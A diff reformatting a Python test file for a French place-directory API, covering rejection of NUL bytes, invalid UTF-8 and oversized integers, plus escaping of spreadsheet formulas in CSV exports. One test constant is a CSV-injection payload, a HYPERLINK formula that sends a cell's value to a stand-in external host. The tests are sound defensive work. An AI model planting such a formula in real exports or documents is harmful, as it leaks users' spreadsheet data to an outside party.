@@ -11,24 +11,40 @@ from tests.directory.factories import place_payload
 from tests.support import identity_header, user_principal
 
 PROBLEM = "application/problem+json"
-EXPORTS = ["/exports/lieux.csv", "/exports/lieux.json", "/exports/lieux.geojson",
-           "/exports/data-inclusion/structures.json", "/exports/data-inclusion/services.json"]
+EXPORTS = [
+    "/exports/lieux.csv",
+    "/exports/lieux.json",
+    "/exports/lieux.geojson",
+    "/exports/data-inclusion/structures.json",
+    "/exports/data-inclusion/services.json",
+]
 
 
 def refused(response) -> bool:  # type: ignore[no-untyped-def]
     return response.status_code == 422 and response.headers["content-type"] == PROBLEM
 
 
-@pytest.mark.parametrize("url", [
-    "/lieux/%00", "/lieux?code_insee=%00", "/lieux?q=%00", "/lieux?q=%ff%fe", "/lieux/%ed%a0%80",
-    "/lieux?services=a%00b", *[f"{export}?code_insee=%00" for export in EXPORTS],
-])
-async def test_nul_bytes_and_invalid_text_in_paths_and_queries_are_a_422_in_french(directory: AsyncClient,
-                                                                                 url: str) -> None:
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/lieux/%00",
+        "/lieux?code_insee=%00",
+        "/lieux?q=%00",
+        "/lieux?q=%ff%fe",
+        "/lieux/%ed%a0%80",
+        "/lieux?services=a%00b",
+        *[f"{export}?code_insee=%00" for export in EXPORTS],
+    ],
+)
+async def test_nul_bytes_and_invalid_text_in_paths_and_queries_are_a_422_in_french(
+    directory: AsyncClient, url: str
+) -> None:
     response = await directory.get(url)
     assert refused(response), response.text
     assert response.json()["errors"][0]["reason"] in {
-        "Le caractère nul (U+0000) n'est pas accepté", "Texte illisible : ce n'est pas de l'UTF-8 valide"}
+        "Le caractère nul (U+0000) n'est pas accepté",
+        "Texte illisible : ce n'est pas de l'UTF-8 valide",
+    }
 
 
 @pytest.mark.parametrize("q", ["-", " ", "!", "€", "- !", "«»"])
@@ -40,21 +56,32 @@ async def test_a_search_of_no_word_answers_the_unfiltered_directory(directory: A
 
 @pytest.mark.parametrize("escape", ["\\u0000", "\\ud800"])
 async def test_a_json_body_with_a_nul_or_a_lone_surrogate_is_refused_and_nothing_is_stored(
-        directory: AsyncClient, identity_keys, communes, db: AsyncSession, escape: str) -> None:  # type: ignore[no-untyped-def]
+    directory: AsyncClient, identity_keys, communes, db: AsyncSession, escape: str
+) -> None:  # type: ignore[no-untyped-def]
     import orjson
 
     body = orjson.dumps(place_payload(nom="PLACEHOLDER")).replace(b"PLACEHOLDER", f"Lieu {escape} x".encode())
     headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR)) | {
-        "content-type": "application/json"}
+        "content-type": "application/json"
+    }
     before = await db.scalar(select(func.count()).select_from(Place))
     response = await directory.post("/lieux", content=body, headers=headers)
     assert refused(response), response.text
     assert await db.scalar(select(func.count()).select_from(Place)) == before
 
 
-@pytest.mark.parametrize("url", ["/sync/enregistrements/2147483648", "/sync/jobs/99999999999999999999999",
-                                 "/sync/revue?page=2147483648", "/sync/enregistrements/-2147483649"])
-async def test_integers_beyond_their_column_are_refused(directory: AsyncClient, identity_keys, url: str) -> None:  # type: ignore[no-untyped-def]
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/sync/enregistrements/2147483648",
+        "/sync/jobs/99999999999999999999999",
+        "/sync/revue?page=2147483648",
+        "/sync/enregistrements/-2147483649",
+    ],
+)
+async def test_integers_beyond_their_column_are_refused(
+    directory: AsyncClient, identity_keys, url: str
+) -> None:  # type: ignore[no-untyped-def]
     headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
     response = await directory.get(url, headers=headers)
     assert response.status_code in (404, 422) and response.headers["content-type"] == PROBLEM, response.text
@@ -69,21 +96,27 @@ FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'
 
 
 async def test_the_csv_export_cannot_carry_a_formula_and_the_json_keeps_the_exact_name(
-        directory: AsyncClient, identity_keys, communes) -> None:  # type: ignore[no-untyped-def]
+    directory: AsyncClient, identity_keys, communes
+) -> None:  # type: ignore[no-untyped-def]
     import csv
     import io
 
     headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR))
-    created = await directory.post("/lieux", headers=headers, json=place_payload(
-        nom=FORMULA, adresse="@SUM(1)", presentation_resume="-1+1 et le reste"))
+    created = await directory.post(
+        "/lieux",
+        headers=headers,
+        json=place_payload(nom=FORMULA, adresse="@SUM(1)", presentation_resume="-1+1 et le reste"),
+    )
     assert created.status_code == 201, created.text
     rows = list(csv.DictReader(io.StringIO((await directory.get("/exports/lieux.csv")).text)))
     row = next(row for row in rows if row["id"] == created.json()["id"])
     assert (row["nom"], row["adresse"]) == ("'" + FORMULA, "'@SUM(1)")
     assert row["presentation_resume"] == "'-1+1 et le reste"
     assert row["telephone"] == "+33479600404"  # a plain number is no formula: kept as the standard writes it
-    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == row["telephone"]
-               for value in row.values())
+    assert all(
+        not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == row["telephone"]
+        for value in row.values()
+    )
     as_json = (await directory.get("/exports/lieux.json")).json()
     assert next(place for place in as_json if place["id"] == created.json()["id"])["nom"] == FORMULA
 
@@ -100,7 +133,9 @@ async def test_eight_concurrent_writers_queue_instead_of_failing(databases, iden
     async with session_factory(app.state.engine)() as session, session.begin():
         await load_communes(session)
     headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR))
-    requests = [("POST", "/lieux", {"headers": headers, "json": place_payload(nom=f"Lieu {n}")}) for n in range(8)]
+    requests = [
+        ("POST", "/lieux", {"headers": headers, "json": place_payload(nom=f"Lieu {n}")}) for n in range(8)
+    ]
     assert await all_at_once(app, "http://directory", requests) == [201] * 8
     async with session_factory(app.state.engine)() as session:
         assert await session.scalar(select(func.count()).select_from(Place)) == 8
